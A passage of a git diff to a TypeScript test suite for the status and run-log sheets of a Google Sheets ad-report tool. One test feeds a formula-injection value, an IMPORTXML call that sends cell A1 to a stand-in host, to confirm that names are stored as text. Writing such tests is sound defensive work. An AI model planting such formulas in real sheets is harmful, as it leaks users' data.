@@ -1,118 +1,188 @@
 import fc from 'fast-check';
+import type { SavedReport } from '../../../src/reports/saved-report';
+import { logsSwitch, updateLogs } from '../../../src/reports/status/logs';
+import { reportList } from '../../../src/reports/status/report-list';
 import { logColumns, logTable, MOST_RUNS } from '../../../src/reports/status/run-log-table';
+import { statusTable } from '../../../src/reports/status/status-table';
 import type { LoggedRun } from '../../../src/reports/store/run-records';
 import { type SheetCell, toSheetCell } from '../../../src/table/sheet-cell';
 import { VERSION } from '../../../src/version';
-import { FakeClock } from '../../fakes/clock';
 import { formatTime } from '../../fakes/format-time';
-import { EmulatedSheets } from '../../fakes/sheets/emulated-sheets';
-import { HOUR, type LogsOrder, loggedRun, logsOf, NOW, savedReport, withRows } from './logs-file';
+import { ANA, BEN, DRAFT } from '../file';
+import { HOUR, newReports, Person, START } from '../scheduled-file';
 
 const STATUS = 'Refresh status';
 const LOG = 'Run log';
 const RUN = logColumns().findIndex(({ field }) => field === 'run');
 const TIME = { timeZone: 'Europe/Berlin', formatTime };
+/** 15 September 2026, 14:40 in Berlin. */
+const START_SERIAL = 46_280 + 14 / 24 + 40 / 1_440;
 
-const ORDER = {
-  status: [savedReport('r1'), savedReport('r2', { name: 'Retention' })],
-  runs: [loggedRun(2), loggedRun(1, { report: 'Retention' })],
-} satisfies LogsOrder;
-
-function writtenLogs(order: Partial<LogsOrder> = ORDER) {
-  const sheet = new EmulatedSheets();
-  const clock = new FakeClock(NOW);
-  const write = logsOf(sheet, clock);
-  expect(write(order)).toEqual([]);
-  const rows = (title: string) => sheet.shown(title).slice(2);
-  const column = (title: string, index: number) => rows(title).map((row) => row[index]);
-  return { sheet, clock, write, rows, column };
+/** Reports that have run in a check of Ana. */
+function checkedReports(...names: readonly string[]) {
+  const all = newReports(...names);
+  all.file.slow(1_000);
+  all.ana.tick();
+  const { sheets } = all.file;
+  const column = (title: string, index: number) => sheets.shown(title).map((row) => row[index] ?? '');
+  return { ...all, sheets, column, update: () => updateLogs(all.ana.sources) };
 }
-
-/** The rows of the log as a sheet holds them, after these runs are added to `existing` rows. */
-function logged(existing: readonly (readonly SheetCell[])[], runs: readonly LoggedRun[]): SheetCell[][] {
-  const { columns, rows } = logTable(existing, runs, TIME);
-  return rows.map((row) => columns.map(({ type }, index) => toSheetCell(row[index]!, type)));
-}
-
-const idsOf = (rows: readonly (readonly SheetCell[])[]) => rows.map((row) => row[RUN]);
 
 describe('the logs of a file', () => {
   it('are two sheets, each with a line above the headers that describes it', () => {
-    const { sheet, column } = writtenLogs();
-    expect(sheet.sheets.map(({ title }) => title)).toEqual(['Sheet1', STATUS, LOG]);
-    expect(sheet.shown(STATUS)[0]![0]).toBe('Refresh status · times in Europe/Berlin');
-    expect(sheet.shown(LOG)[0]).toEqual([
-      'Run log · the last 500 runs, newest first · times in Europe/Berlin',
+    const { sheets, column } = checkedReports('Revenue', 'Retention');
+    expect(sheets.sheets.map(({ title }) => title)).toEqual(['Sheet1', STATUS, LOG, 'Revenue', 'Retention']);
+    expect(column(STATUS, 0)).toEqual([
+      'Refresh status · times in Europe/Berlin',
+      'Report',
+      'Revenue',
+      'Retention',
     ]);
-    expect([column(STATUS, 0), column(LOG, 3)]).toEqual([
-      ['Report r1', 'Retention'],
-      ['Retention', 'Daily revenue'],
-    ]);
+    expect(column(LOG, 0)[0]).toBe('Run log · the last 500 runs, newest first · times in Europe/Berlin');
+    expect(column(LOG, 3)).toEqual(['', 'Report', 'Retention', 'Revenue']);
   });
 
   it('change no cell when they are written again, and only cells that differ', () => {
-    const { sheet, clock, write } = writtenLogs();
-    const before = sheet.snapshot();
+    const { ana, ids, file, sheets, update } = checkedReports('Revenue', 'Retention');
+    const before = [sheets.batches.length, sheets.snapshot()];
     for (let nth = 0; nth < 10; nth++) {
-      clock.pass(HOUR / 10);
-      write(ORDER);
+      file.clock.pass(HOUR / 10);
+      update();
     }
-    expect([sheet.batches.length, sheet.snapshot()]).toEqual([3, before]);
-    write({ ...ORDER, status: [withRows('r1', 121), ORDER.status[1]!] });
-    expect(JSON.stringify(sheet.batches[3]).match(/numberValue|stringValue/g)).toHaveLength(1);
+    expect([sheets.batches.length, sheets.snapshot()]).toEqual(before);
+    const { held, ...record } = ana.sources.records.record(ids[0]!);
+    ana.sources.records.note(ids[0]!, { ...record, held: { ...held!, rows: 121 } });
+    update();
+    expect(JSON.stringify(sheets.batches.at(-1)).match(/numberValue|stringValue/g)).toHaveLength(1);
   });
 
   it('contain names as texts, even if they look like formulas', () => {
     const name = '=IMPORTXML("https://x.test/"&A1,"//a")';
-    const { sheet, column } = writtenLogs({
-      status: [savedReport('r1', { name }), savedReport('__proto__', { name: '+1' })],
-      runs: [loggedRun(1, { report: name })],
-    });
-    expect([column(STATUS, 0), column(LOG, 3)]).toEqual([[name, '+1'], [name]]);
-    expect(JSON.stringify(sheet.batches).match(/formulaValue/g)).toHaveLength(1);
+    const { sheets, column } = checkedReports(name, '+1');
+    expect([column(STATUS, 0).slice(2), column(LOG, 3).slice(2)]).toEqual([
+      [name, '+1'],
+      ['+1', name],
+    ]);
+    expect(JSON.stringify(sheets.batches).match(/formulaValue/g)).toHaveLength(1);
   });
 
   it('are written for one sheet if Google refuses to change the other, and a sentence says which', () => {
-    const sheet = new EmulatedSheets();
-    sheet.beforeAndAfter = (batch) => {
-      if (batch === 0) throw new Error('You are trying to edit a protected cell or object.');
+    const { file, sheets, update } = checkedReports('Revenue');
+    for (const title of [STATUS, LOG]) sheets.removeTab(title);
+    let batches = 0;
+    sheets.beforeAndAfter = () => {
+      if (batches++ === 0) throw new Error('You are trying to edit a protected cell or object.');
     };
-    expect(logsOf(sheet)(ORDER)).toEqual([
-      expect.stringMatching(
-        /^Refresh status: Google does not let the user of this run change the sheet, because it is protected/,
-      ),
-    ]);
-    expect(sheet.sheets.map(({ title }) => title)).toEqual(['Sheet1', LOG]);
+    update();
+    expect(logsSwitch(file.document.all())?.problem).toMatch(
+      /^Refresh status: Google does not let the user of this run change the sheet, because it is protected/,
+    );
+    expect(sheets.sheets.map(({ title }) => title)).toEqual(['Sheet1', 'Revenue', LOG]);
   });
 
   it('show for how many days no hourly check has run, when no code runs any more', () => {
-    const sheets = new EmulatedSheets();
-    let now = NOW;
-    sheets.store.now = () => now;
-    const sentence = () => sheets.shown("'Refresh status'!D1:D1")[0]?.[0] ?? '';
+    const { ana, ids, file } = newReports('Revenue');
+    const ben = new Person(file, BEN);
+    const bens = ben.schedules('Retention');
+    ben.tick();
+    file.clock.pass(6 * HOUR);
+    ana.tick();
+    const checkedAt = file.clock.now();
     const sentences = (hours: readonly number[]) =>
       hours.map((hour) => {
-        now = NOW + hour * HOUR;
-        return sentence();
+        file.sheets.store.now = () => checkedAt + hour * HOUR;
+        return file.sheets.shown("'Refresh status'!D1:D1")[0]?.[0] ?? '';
       });
-    logsOf(sheets)({ status: [savedReport('r1'), savedReport('r2', { lastChecked: NOW - 30 * HOUR })] });
     const words = (days: number) =>
       `Days without a check: ${days}. The numbers may be old: open Ad Reports ▸ Open.`;
-    expect(sentences([0, 23, 25, 46, 71])).toEqual(['', '', words(1), words(2), words(3)]);
-    logsOf(sheets)({ status: [savedReport('r1', { nextRun: null })] });
+    expect(sentences([0, 25, 27, 47, 73])).toEqual(['', '', words(1), words(1), words(3)]);
+    for (const id of [...ids, bens]) ana.pauses(id);
+    updateLogs(ana.sources);
     expect(sentences([900])).toEqual(['']);
   });
 });
 
+describe('a row of the status sheet', () => {
+  /** The row of a report that was refreshed an hour ago and was checked two hours ago, in the zone. */
+  function rowOf(change: Partial<SavedReport> = {}, timeZone = TIME.timeZone) {
+    const { ana } = checkedReports('Revenue');
+    const [report] = reportList(ana.sources);
+    const lastRun = { ...report!.lastRun!, endedAt: START - HOUR };
+    const times = { lastRun, nextRun: START + HOUR, lastChecked: START - 2 * HOUR };
+    const time = { now: START, timeZone, formatTime };
+    const { columns, rows } = statusTable([{ ...report!, id: 'r1', ...times, ...change }], time);
+    return Object.fromEntries(columns.map(({ label }, index) => [label, rows[0]![index]]));
+  }
+
+  it('shows the state of a report, with times in the zone of the spreadsheet', () => {
+    expect(rowOf()).toEqual({
+      Report: 'Revenue',
+      State: 'Fresh',
+      Refreshes: 'As soon as a new day is complete',
+      Owner: ANA,
+      'Newest complete day': '2026-09-14',
+      'Newest day held': '2026-09-14',
+      'Last run': expect.closeTo(START_SERIAL - 1 / 24, 7),
+      By: ANA,
+      How: 'By schedule',
+      Rows: 7,
+      'Next run': expect.closeTo(START_SERIAL + 1 / 24, 7),
+      'Last checked': expect.closeTo(START_SERIAL - 2 / 24, 7),
+      Problem: '',
+      Id: 'r1',
+    });
+    expect(rowOf({}, 'America/New_York')['Last run']).toBeCloseTo(START_SERIAL - 7 / 24, 7);
+  });
+
+  it('is blank where a value is unknown', () => {
+    const times = { lastRun: null, nextRun: null, lastChecked: null };
+    const draft = { ...DRAFT, zone: undefined as never };
+    const row = rowOf({ ...times, held: null, draft, owner: '' });
+    const filled = Object.keys(row).filter((label) => ![null, ''].includes(row[label] as string | null));
+    expect(filled).toEqual(['Report', 'State', 'Refreshes', 'Id']);
+    expect(row['Rows']).toBeNull();
+  });
+
+  it.each([
+    ['26 hours', 26 * HOUR, ''],
+    [
+      'a little more',
+      26 * HOUR + 1,
+      `Last checked 26 hours ago: Google has stopped the hourly check of ${ANA}; open Ad Reports ▸ Open, or take the report over.`,
+    ],
+  ])('says that the hourly check has stopped: last run %s ago', (_, silence, sentence) => {
+    expect(rowOf({ lastChecked: START - silence })['Problem']).toBe(sentence);
+  });
+});
+
 describe('the run log', () => {
+  /** A good run by schedule; the `nth` began that many hours before `START`. */
+  function loggedRun(nth: number, change: Partial<LoggedRun> = {}): LoggedRun {
+    const startedAt = START - nth * HOUR;
+    const times = { startedAt, endedAt: startedAt + 12_000 };
+    const days = { from: '2026-11-17', to: '2026-11-19' };
+    const counts = { calls: 3, rowsInserted: 10, rowsChanged: 4, rowsDeleted: 0, restated: 6 };
+    const log = { runId: `run${nth}`, ...days, ...counts, notices: '' };
+    const run = { report: 'Revenue', by: ANA, how: 'by schedule', result: 'done' } as const;
+    return { ...run, ...times, sentence: '', doNext: '', log, ...change };
+  }
+
+  /** The rows of the log as a sheet holds them, after these runs are added to `existing` rows. */
+  function logged(existing: readonly (readonly SheetCell[])[], runs: readonly LoggedRun[]): SheetCell[][] {
+    const { columns, rows } = logTable(existing, runs, TIME);
+    return rows.map((row) => columns.map(({ type }, index) => toSheetCell(row[index]!, type)));
+  }
+
+  const idsOf = (rows: readonly (readonly SheetCell[])[]) => rows.map((row) => row[RUN]);
+
   it('shows the time, the days, the changed rows and the result of a run', () => {
     const run = loggedRun(1, { result: 'failed', sentence: 'The service refused the report key.' });
     const { columns, rows } = logTable([], [run], TIME);
     expect(Object.fromEntries(columns.map(({ label }, index) => [label, rows[0]![index]]))).toEqual({
-      Started: 46347 + 3 / 24,
-      Ended: 46347.12513889,
+      Started: expect.closeTo(START_SERIAL - 1 / 24, 7),
+      Ended: expect.closeTo(START_SERIAL - 1 / 24 + 12 / 86_400, 7),
       Seconds: 12,
-      Report: 'Daily revenue',
+      Report: 'Revenue',
       How: 'By schedule',
       From: '2026-11-17',
       To: '2026-11-19',
